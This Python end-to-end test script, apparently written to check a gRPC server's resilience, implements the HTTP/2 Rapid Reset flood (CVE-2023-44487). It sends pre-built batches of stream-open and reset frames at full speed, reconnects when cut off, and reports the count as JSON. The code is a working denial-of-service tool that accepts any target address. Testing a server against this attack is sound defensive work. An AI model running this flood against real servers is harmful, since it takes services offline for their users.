"""A client that opens streams and resets them at once, as fast as it can (CVE-2023-44487), and connects anew when it is cut off.

    python3 tests/e2e/rapid_resets.py ADDRESS COUNT [--tls CA]

prints, as JSON, how many resets it sent, over how many connections, and the seconds that it took."""

import argparse
import json
import socket
import ssl
import struct
import time

import hpack
from raw_http2 import END_HEADERS, HEADERS, PREFACE, RST_STREAM, SETTINGS, Raw

BATCH = 500
FIELDS = [(":method", "POST"), (":scheme", "http"), (":path", "/sluice.v1.Inference/Generate"), (":authority", "localhost"),
          ("te", "trailers"), ("content-type", "application/grpc")]


def batches(count):
    """The frames of `count` streams from a connection's first, some hundreds at a time."""
    encoder = hpack.Encoder()
    first, later = encoder.encode(FIELDS, huffman=False), encoder.encode(FIELDS, huffman=False)
    for start in range(0, count, BATCH):
        numbers = range(start, min(count, start + BATCH))
        yield len(numbers), b"".join(
            Raw.encoded(HEADERS, END_HEADERS, 2 * number + 1, later if number else first) +
            Raw.encoded(RST_STREAM, 0, 2 * number + 1, struct.pack(">I", 8)) for number in numbers)


def connect(address, ca=None):
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=30)
    connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if ca is not None:
        context = ssl.create_default_context(cafile=ca)
        context.set_alpn_protocols(["h2"])
        connection = context.wrap_socket(connection, server_hostname="localhost")
    connection.sendall(PREFACE + Raw.encoded(SETTINGS))
    return connection


def flood(address, count, ca=None, most_connections=1 << 30):
    """Resets `count` streams; how many were sent over each connection."""
    ready = list(batches(min(count, 200_000)))  # made before, so that they leave as fast as can be
    sent = []
    while sum(sent) < count and len(sent) < most_connections:
        sent.append(0)
        try:
            with connect(address, ca) as connection:
                for size, frames in ready:
                    connection.sendall(frames)
                    sent[-1] += size
                    if sum(sent) >= count:
                        break
        except OSError:
            pass  # cut off, or not let in
    return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("address")
    parser.add_argument("count", type=int)
    parser.add_argument("--tls", metavar="CA")
    arguments = parser.parse_args()
    start = time.monotonic()
    sent = flood(arguments.address, arguments.count, arguments.tls)
    print(json.dumps({"sent": sum(sent), "connections": len(sent), "seconds": round(time.monotonic() - start, 2)}))


if __name__ == "__main__":
    main()
